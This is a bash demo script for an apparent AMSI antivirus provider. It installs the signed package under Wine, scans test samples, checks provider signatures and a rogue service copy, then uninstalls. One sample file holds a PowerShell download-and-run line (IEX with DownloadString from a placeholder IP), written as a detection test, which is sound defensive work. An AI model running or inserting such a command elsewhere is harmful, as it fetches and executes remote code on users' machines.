#!/usr/bin/env bash
# The main job: install the signed x64 package (make dist built it) into the
# project's Wine prefix with msiexec, as an administrator would; scan the
# samples from a 64-bit and a 32-bit host through the installed providers
# and the installed service (with clamd behind it when clamd is installed);
# show the host's signature check; stop the service through the service
# control manager; show that a copy of the service in another directory is
# not trusted; and remove the package. Run by `make demo`.
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
export WINEPREFIX=${WINEPREFIX:-$here/build/wineprefix}
export WINEDEBUG=-all
run="$here/tools/wine-run"
# The 64-bit loader, for the programs whose architecture matters: the
# 64-bit msiexec (a 32-bit one would mark the service as a 32-bit one) and
# the 64-bit registry tool.
run64=/usr/lib/wine/wine64
x64="$here/build/x64/bin"

version=$(cat "$here/build/x64/version.txt")
package="$here/build/dist/Kestrov-$version-x64.msi"
root_certificate="$here/build/signing/root.crt"
drive_c="$WINEPREFIX/drive_c"
install_dir="$drive_c/Program Files/Kestrov"
install_win='C:\Program Files\Kestrov'
service_exe="$install_win\\KestrovScanService.exe"
data_dir="$drive_c/ProgramData/Kestrov"
data_win='C:\ProgramData\Kestrov'
rogue_dir="$drive_c/Kestrov-copy"
rogue_win='C:\Kestrov-copy'
work="$here/build/demo"
"$here/tools/clamd.sh" stop "$work/clamd" 2>/dev/null || true
rm -rf "$work" "$rogue_dir"
mkdir -p "$work/samples"

indent() { tr -d '\r' | sed 's/^/   /'; }
# msiexec's own exit code: Wine gives a shell only the low 8 bits of it.
msiexec() {
  "$run64" 'C:\windows\system32\cmd.exe' /v:on /c \
    "start /wait C:\\windows\\system32\\msiexec.exe $* & echo exit !ERRORLEVEL!" </dev/null 2>/dev/null |
    tr -d '\r' | sed -n 's/^exit \([0-9]*\)$/\1/p'
}
featurebits() {
  if [ "$1" = on ]; then
    "$run64" 'C:\windows\system32\reg.exe' add 'HKLM\SOFTWARE\Microsoft\AMSI' /v FeatureBits \
      /t REG_DWORD /d 2 /f /reg:64 </dev/null >/dev/null 2>&1
  else
    "$run64" 'C:\windows\system32\reg.exe' delete 'HKLM\SOFTWARE\Microsoft\AMSI' /v FeatureBits \
      /f /reg:64 </dev/null >/dev/null 2>&1 || true
  fi
}

# Whatever happens, the demo leaves nothing behind: a foreground copy is
# stopped, the package removed, the signature settings undone, the prefix's
# Wine processes ended and the demo's clamd stopped.
rogue_running=""
finish() {
  if [ -n "$rogue_running" ]; then
    "$run" "$rogue_win\\KestrovScanService.exe" --stop </dev/null >/dev/null 2>&1 || true
  fi
  if [ -f "$drive_c/Kestrov-x64.msi" ] && [ -f "$install_dir/KestrovScanService.exe" ]; then
    "$run64" 'C:\windows\system32\sc.exe' stop KestrovScanService </dev/null >/dev/null 2>&1 || true
    msiexec /x 'C:\Kestrov-x64.msi' /qn >/dev/null || true
  fi
  featurebits off
  [ -f "$root_certificate" ] && "$here/packaging/wine-trust-root.sh" "$root_certificate" --remove >/dev/null 2>&1
  wineserver -k >/dev/null 2>&1 || true
  "$here/tools/clamd.sh" stop "$work/clamd" >/dev/null 2>&1 || true
}
trap finish EXIT

# The service's state as the service control manager reports it.
service_state() {
  "$run64" 'C:\windows\system32\sc.exe' query KestrovScanService </dev/null 2>/dev/null |
    tr -d '\r' | sed -n 's/.*STATE *: *[0-9]* *\([A-Z_]*\).*/\1/p'
}
# Polled: the manager reports a state, it does not signal one.
wait_for_state() {
  for _ in $(seq 200); do
    [ "$(service_state)" = "$1" ] && return 0
    sleep 0.05
  done
  echo "demo: the service did not reach $1" >&2
  return 1
}
now_ms() { echo $(($(date +%s%N) / 1000000)); }

echo "== The package"
printf '   %s (%d bytes), signature: ' "build/dist/Kestrov-$version-x64.msi" "$(stat -c %s "$package")"
if osslsigncode verify -CAfile "$root_certificate" -in "$package" >/dev/null 2>&1; then
  echo "verified against the build's test root"
else
  echo "NOT VERIFIED"
  exit 1
fi

echo "== Installing it: msiexec /i Kestrov-$version-x64.msi /qn"
cp "$package" "$drive_c/Kestrov-x64.msi"
# A package left by a run that died is removed first.
if [ -f "$install_dir/KestrovScanService.exe" ]; then msiexec /x 'C:\Kestrov-x64.msi' /qn >/dev/null || true; fi
status=$(msiexec /i 'C:\Kestrov-x64.msi' /qn /l*v 'C:\kestrov-install.log')
echo "   msiexec exit code: $status"
[ "$status" = 0 ] || { echo "demo: the installation failed; see $drive_c/kestrov-install.log" >&2; exit 1; }
wait_for_state RUNNING
echo "   installed into $install_win (both providers registered, each in its registry view);"
echo "   configuration and rules in $data_win; KestrovScanService: RUNNING"

# clamd, when it is installed: one of the demo's own on loopback, with the
# project's sample rules (a YARA rule among them), behind the service,
# through the installed configuration file and a reload.
if command -v clamd >/dev/null 2>&1 || [ -x /usr/sbin/clamd ]; then
  if "$here/tools/clamd.sh" start "$work/clamd" "$here/tools/clamd-rules" >/dev/null; then
    clamd_port=$(cat "$work/clamd/port")
    printf '\r\n%s\r\n' "clamd = 127.0.0.1:$clamd_port" >>"$data_dir/KestrovScanService.conf"
    "$run" "$service_exe" --reload </dev/null >/dev/null 2>&1
    echo "   clamd on 127.0.0.1:$clamd_port with the rules of tools/clamd-rules: added to the"
    echo "   configuration, and the service reloaded (KestrovScanService --reload)"
  fi
else
  echo "   no clamd here: the built-in rules only"
fi

echo "== Samples"
samples="$work/samples"
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$samples/eicar.com"
# Script hosts hand scripts over as UTF-16: a byte order mark, then UTF-16LE.
printf '\xff\xfe' >"$samples/amsi-sample.ps1"
printf '%s\r\n' "Write-Host 'AMSI Test Sample: 7e72c3ce-861b-4339-8740-0ac1484c1386'" |
  iconv -f UTF-8 -t UTF-16LE >>"$samples/amsi-sample.ps1"
printf '%s\r\n' 'Get-ChildItem C:\Windows | Measure-Object' 'Write-Host "done"' >"$samples/clean.ps1"
# A download-and-run script, as a script host hands it over (UTF-16).
printf '\xff\xfe' >"$samples/downloader.ps1"
printf '%s\r\n' "\$u = 'http://198.51.100.7/stage2.ps1'" 'IEX (New-Object Net.WebClient).DownloadString($u)' |
  iconv -f UTF-8 -t UTF-16LE >>"$samples/downloader.ps1"
head -c $((9 * 1024 * 1024)) /dev/zero | tr '\0' 'a' >"$samples/large.txt"
sample_names="eicar.com amsi-sample.ps1 clean.ps1 downloader.ps1 large.txt"
for f in $sample_names; do
  printf '   %-16s %9d bytes\n' "$f" "$(stat -c %s "$samples/$f")"
done

# Scans one sample with the installed host of one architecture, as the AMSI
# host would, through the registered providers; prints "verdict latency".
winepath_of() { echo "Z:${1//\//\\}"; }
scan() {
  local arch=$1 file=$2 output status
  set +e
  output=$("$run" "$install_win\\$arch\\amsiscan.exe" --app "KestrovDemo" "$(winepath_of "$file")" </dev/null 2>&1)
  status=$?
  set -e
  local latency
  latency=$(sed -n 's/.* in \([0-9.]*\) ms.*/\1/p' <<<"$output" | tr -d '\r' | head -n 1)
  case $status in
    0) echo "not-detected ${latency:-?}" ;;
    1) echo "DETECTED ${latency:-?}" ;;
    *) echo "error(${status}) -" ;;
  esac
}

echo "== Scans, through the installed providers and service"
printf '   %-16s  %-6s  %-12s  %s\n' sample host verdict latency
printf '   %-16s  %-6s  %-12s  %s\n' ---------------- ------ ------------ -------
for f in $sample_names; do
  for arch in x64 x86; do
    read -r verdict latency <<<"$(scan "$arch" "$samples/$f")"
    printf '   %-16s  %-6s  %-12s  %s ms\n' "$f" "$arch" "$verdict" "$latency"
  done
done

echo "== The host's signature check (HKLM\\SOFTWARE\\Microsoft\\AMSI FeatureBits = 2)"
featurebits on
# amsiscan exits with 2 when a provider was refused: that is what is shown.
check() {
  { "$run" "$install_win\\x64\\amsiscan.exe" "$@" </dev/null 2>&1 || true; } | tr -d '\r' |
    { grep -E 'refused|trusted|overall' || true; } | sed 's/^/      /'
}
echo "   the build's test root not yet trusted:"
check "$(winepath_of "$samples/eicar.com")"
"$here/packaging/wine-trust-root.sh" "$root_certificate" >/dev/null
echo "   the test root trusted (as an enterprise would deploy its root):"
check "$(winepath_of "$samples/eicar.com")"
cp "$install_dir/KestrovAmsi64.dll" "$work/KestrovAmsi64-changed.dll"
printf '\x00' | dd of="$work/KestrovAmsi64-changed.dll" bs=1 seek=4096 conv=notrunc status=none
echo "   a copy of the provider with one byte changed:"
check --provider "$(winepath_of "$work/KestrovAmsi64-changed.dll")" "$(winepath_of "$samples/eicar.com")"
featurebits off
"$here/packaging/wine-trust-root.sh" "$root_certificate" --remove

# The service writes its log behind the verdicts; its stop writes every line
# still queued.
echo "== Stopping the service through the service control manager (net stop)"
stop_started=$(now_ms)
"$run64" 'C:\windows\system32\net.exe' stop KestrovScanService </dev/null >/dev/null 2>&1
wait_for_state STOPPED
echo "   KestrovScanService: STOPPED, $(($(now_ms) - stop_started)) ms after net stop began"
# The removal replaces nothing that still runs: wait for the process too.
for _ in $(seq 100); do
  pgrep -f 'KestrovScanService.exe --service' >/dev/null || break
  sleep 0.05
done
log="$data_dir/scans.log"
echo "   the service logged $(wc -l <"$log") scans; which engine found what (x64 host):"
for f in $sample_names; do
  line=$(grep -F "samples\\\\$f\"" "$log" | head -n 1)
  engine=$(sed -n 's/.*"engine":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  rule=$(sed -n 's/.*"rule":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  clamd=$(sed -n 's/.*"clamd":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  printf '   %-16s engine %-5s rule %-38s clamd: %s\n' "$f" "$engine" "$rule" "$clamd"
done
echo "   the large file's entry:"
grep '"contentBytes":8388608' "$log" | head -n 1 | indent

echo "== A copy of the service in another directory ($rogue_win), in the foreground"
mkdir -p "$rogue_dir"
cp "$x64/KestrovScanService.exe" "$rogue_dir/"
"$run" "$rogue_win\\KestrovScanService.exe" --log "$rogue_win\\scans.jsonl" \
  </dev/null >"$work/rogue.txt" 2>&1 &
rogue_running=1
for _ in $(seq 100); do
  grep -q 'serving' "$work/rogue.txt" 2>/dev/null && break
  sleep 0.1
done
grep -q 'serving' "$work/rogue.txt" || { cat "$work/rogue.txt" >&2; exit 1; }
read -r verdict latency <<<"$(scan x64 "$samples/eicar.com")"
# Stopped the way that works on every machine: --stop sets the stop event
# of the service that serves in the foreground, and waits until it is gone.
"$run" "$rogue_win\\KestrovScanService.exe" --stop </dev/null >/dev/null 2>&1
rogue_running=""
wait
received=0
[ -f "$rogue_dir/scans.jsonl" ] && received=$(wc -l <"$rogue_dir/scans.jsonl")
printf '   eicar.com from the x64 host: %s; scans the copy received: %s\n' "$verdict" "$received"

echo "== Removing the package: msiexec /x Kestrov-$version-x64.msi /qn"
status=$(msiexec /x 'C:\Kestrov-x64.msi' /qn)
left=0
if [ -d "$install_dir" ]; then left=$(find "$install_dir" -type f | wc -l); fi
printf '   msiexec exit code: %s; files left in %s: %s; service: %s\n' "$status" "$install_win" \
  "$left" "$(state=$(service_state); echo "${state:-gone}")"
